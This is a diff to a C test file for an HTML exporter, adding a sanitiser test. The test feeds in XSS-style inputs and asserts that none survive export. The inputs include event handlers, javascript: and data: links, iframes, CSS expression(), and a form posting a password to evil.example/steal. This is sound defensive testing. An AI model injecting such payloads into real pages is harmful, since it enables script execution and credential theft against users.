@@ -180,7 +180,8 @@ test_body (Fixture       *fixture,
   body = strstr (html, "<body>");
   g_assert_nonnull (body);
   g_assert_nonnull (strstr (body, "<main id=\"byline-article\">"));
-  g_assert_nonnull (strstr (body, "<h1 class=\"title\">Trains &amp; &quot;Night&quot; Lines</h1>"));
+  /* Written back by an HTML serialiser: quotes in text need no entity. */
+  g_assert_nonnull (strstr (body, "<h1 class=\"title\">Trains &amp; \"Night\" Lines</h1>"));
   g_assert_nonnull (strstr (body, "The first paragraph."));
 
   /* Both local images (the cover with a space in its path, and the inline one) are embedded;
@@ -280,6 +281,125 @@ test_bad_front_matter (void)
   g_assert_nonnull (error);
 }
 
+/* Raw HTML that would act in a browser: the page must carry none of it, whatever its CSP. */
+static const char hostile[] =
+  "# Hostile\n"
+  "\n"
+  "<p onclick=\"alert(1)\" OnMouseOver='alert(2)' class=\"kept\">Handlers</p>\n"
+  "\n"
+  "<a href=\"javascript:alert(3)\">js link</a> <a href=\" JaVa&#x09;Script:alert(4)\">spaced</a>\n"
+  "<a href=\"vbscript:msgbox(5)\">vb</a>\n"
+  "<a href=\"data:text/html,<script>alert(6)</script>\">data link</a>\n"
+  "<a href=\"https://example.com/safe\">safe link</a> <a href=\"#notes\">anchor</a>\n"
+  "\n"
+  "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">\n"
+  "<base href=\"https://evil.example/\">\n"
+  "<link rel=\"stylesheet\" href=\"https://evil.example/style.css\">\n"
+  "\n"
+  "<iframe src=\"https://evil.example/frame\"></iframe>\n"
+  "<object data=\"https://evil.example/movie.swf\"></object>\n"
+  "<embed src=\"https://evil.example/plugin\">\n"
+  "\n"
+  "<form action=\"https://evil.example/steal\"><input name=\"password\"> Form text"
+  "<button formaction=\"javascript:alert(7)\">Send</button></form>\n"
+  "\n"
+  "<div style=\"background: url(https://evil.example/track.png)\">styled url</div>\n"
+  "<div style=\"width: expression(alert(8))\">styled to run</div>\n"
+  "<div style=\"color: red\">plain style</div>\n"
+  "<style>@import url(https://evil.example/import.css);</style>\n"
+  "\n"
+  "<img src=\"javascript:alert(9)\" alt=\"js image\"> <img src=\"data:image/png;base64,"
+  "iVBORw0KGgo=\" alt=\"data image\"> <img src=\"x\" onerror=\"alert(10)\" alt=\"broken\">\n"
+  "\n"
+  "<svg><a xlink:href=\"javascript:alert(11)\"><text>svg link</text></a>"
+  "<set attributeName=\"href\" to=\"javascript:alert(12)\"/></svg>\n"
+  "\n"
+  "<SCRIPT>alert(13)</SCRIPT>\n"
+  "\n"
+  "Text with <em>emphasis</em>, “quotes”, 日本語 and a [Markdown link](javascript:alert(14)).\n"
+  "\n"
+  "```\n<script>code stays text</script> & more\n```\n";
+
+/* The tags of @html alone, without the text between them (where "<" is always "&lt;"). */
+static char *
+tags_of (const char *html)
+{
+  g_autoptr(GString) tags = g_string_new (NULL);
+  gboolean in_tag = FALSE;
+
+  for (const char *p = html; *p != '\0'; p++)
+    {
+      if (*p == '<')
+        in_tag = TRUE;
+      if (in_tag)
+        g_string_append_c (tags, g_ascii_tolower (*p));
+      if (*p == '>')
+        in_tag = FALSE;
+    }
+
+  return g_string_free (g_steal_pointer (&tags), FALSE);
+}
+
+static void
+test_hostile (void)
+{
+  g_autoptr(GError) error = NULL;
+  g_autofree char *html = byline_html_export_text (hostile, -1, NULL, &error);
+  g_autofree char *tags = NULL;
+  const char *body;
+
+  g_assert_no_error (error);
+  body = strstr (html, "<body>");
+  g_assert_nonnull (body);
+  tags = tags_of (body);
+
+  /* Nothing that runs. */
+  g_assert_null (strstr (tags, "<script"));
+  g_assert_null (strstr (tags, " on"));
+  g_assert_null (strstr (tags, "javascript"));
+  g_assert_null (strstr (tags, "script:"));
+  g_assert_null (strstr (tags, "vbscript"));
+  g_assert_null (strstr (tags, "data:text"));
+  g_assert_null (strstr (tags, "expression"));
+  g_assert_null (strstr (tags, "alert("));
+
+  /* Nothing that loads, redirects or re-bases the page, or sends a form. */
+  g_assert_null (strstr (tags, "evil.example"));
+  g_assert_null (strstr (tags, "<meta"));
+  g_assert_null (strstr (tags, "<base"));
+  g_assert_null (strstr (tags, "<link"));
+  g_assert_null (strstr (tags, "<iframe"));
+  g_assert_null (strstr (tags, "<object"));
+  g_assert_null (strstr (tags, "<embed"));
+  g_assert_null (strstr (tags, "<form"));
+  g_assert_null (strstr (tags, "<set"));
+  g_assert_null (strstr (tags, "<style"));
+  g_assert_null (strstr (tags, "url("));
+
+  /* The tag filter shows a raw script, iframe or style as text, which is all it is. */
+  g_assert_nonnull (strstr (body, "&lt;SCRIPT&gt;alert(13)&lt;/SCRIPT&gt;"));
+
+  /* What is harmless stays: text, safe links, plain styles, data images, the code block. */
+  g_assert_nonnull (strstr (body, "class=\"kept\""));
+  g_assert_nonnull (strstr (body, ">Handlers</p>"));
+  g_assert_nonnull (strstr (body, "href=\"https://example.com/safe\""));
+  g_assert_nonnull (strstr (body, "href=\"#notes\""));
+  g_assert_nonnull (strstr (body, "js link</a>"));
+  g_assert_nonnull (strstr (body, "Form text"));
+  g_assert_nonnull (strstr (body, "styled url</div>"));
+  g_assert_nonnull (strstr (body, "style=\"color: red\""));
+  g_assert_nonnull (strstr (body, "src=\"data:image/png;base64,iVBORw0KGgo=\""));
+  g_assert_nonnull (strstr (body, "alt=\"js image\""));
+  g_assert_nonnull (strstr (body, "svg link"));
+  g_assert_nonnull (strstr (body, "Markdown link</a>"));
+  g_assert_nonnull (strstr (body, "Text with <em>emphasis</em>, “quotes”, 日本語 and"));
+  g_assert_nonnull (strstr (body, "&lt;script&gt;code stays text&lt;/script&gt; &amp; more"));
+
+  /* The Content-Security-Policy stays, as a second wall. */
+  g_assert_nonnull (strstr (html, "Content-Security-Policy"));
+  g_assert_true (g_str_has_suffix (html, "</main>\n</body>\n</html>\n"));
+}
+
 int
 main (int   argc,
       char *argv[])
@@ -294,6 +414,7 @@ main (int   argc,
   g_test_add_func ("/html-export/unpublished", test_unpublished);
   g_test_add_func ("/html-export/missing-image", test_missing_image);
   g_test_add_func ("/html-export/bad-front-matter", test_bad_front_matter);
+  g_test_add_func ("/html-export/hostile", test_hostile);
 
   return g_test_run ();
 }
